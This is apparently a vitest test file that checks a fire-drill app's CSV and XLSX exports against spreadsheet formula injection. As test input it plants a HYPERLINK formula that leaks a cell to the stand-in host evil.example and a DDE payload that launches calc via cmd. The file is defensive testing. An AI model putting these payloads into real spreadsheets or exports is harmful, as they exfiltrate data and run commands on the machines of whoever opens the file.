import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Caller, createTestContext, type TestContext } from '../../test/test-app';
import { humanCheckAnswer } from './test-human-check';

/**
 * A fire drill reported by anyone on the public site, exported by staff: text a spreadsheet would run
 * as a formula (OWASP CSV injection) comes out with a leading quote, in CSV and in XLSX.
 */
let t: TestContext;
let staff: Caller;
let schoolId: string;
const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the report")';

beforeAll(async () => {
  t = await createTestContext();
  const keeper = await t.createCaller(['firedrills.read', 'firedrills.write']);
  staff = await t.createCaller(['firedrills.read']);
  const system = await t.call(keeper, {
    method: 'POST',
    url: '/api/firedrill/schoolsystems',
    payload: { school_system: { label: 'Injection ISD', county: 'Hays' } },
  });
  expect(system.statusCode, system.body).toBe(201);
  const school = await t.call(keeper, {
    method: 'POST',
    url: '/api/firedrill/schools',
    payload: { school: { label: 'Formula Middle School', school_system_id: system.json().id, city: 'Kyle' } },
  });
  schoolId = school.json().id;
  const reported = await t.call(null, {
    method: 'POST',
    url: '/api/public/firedrill/drills',
    payload: {
      drill: {
        school_id: schoolId,
        drill_date: new Date().toISOString().slice(0, 10),
        drill_time: '09:45',
        drill_type: 'fire',
        announced: false,
        evacuation_seconds: 140,
        occupants: 350,
        reporter_name: '@SUM(1+1)*cmd|" /C calc"!A0',
        reporter_title: '+Principal',
        reporter_email: 'pat@kyle.example.org',
        notes: formula,
      },
      recaptchaToken: await humanCheckAnswer(t, 'firedrill'),
    },
  });
  expect(reported.statusCode, reported.body).toBe(201);
}, 60_000);
afterAll(async () => t?.close());

describe('fire drill exports', () => {
  it('neutralise formula cells in CSV', async () => {
    const csv = await t.call(staff, {
      method: 'GET',
      url: `/api/firedrill/drills/export?school_id=${schoolId}`,
    });
    expect(csv.statusCode).toBe(200);
    const row = csv.body.trim().split('\r\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open the report"")"`);
    expect(row).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(row).toContain(",'+Principal,");
    expect(row).not.toMatch(/(^|,)"?[=+@-]/);
  });

  it('neutralise formula cells in XLSX, read back with the library', async () => {
    const xlsx = await t.call(staff, {
      method: 'GET',
      url: `/api/firedrill/drills/export?format=xlsx&school_id=${schoolId}`,
    });
    expect(xlsx.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Fire drills')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = sheet.getRow(2);
    const cell = (name: string) => row.getCell(header.indexOf(name) + 1);
    expect(cell('Notes').value).toBe(`'${formula}`);
    expect(cell('Notes').formula).toBeUndefined();
    expect(cell('Reported by').value).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
    expect(cell('Title').value).toBe("'+Principal");
    expect(cell('Occupants').value).toBe(350);
  });
});
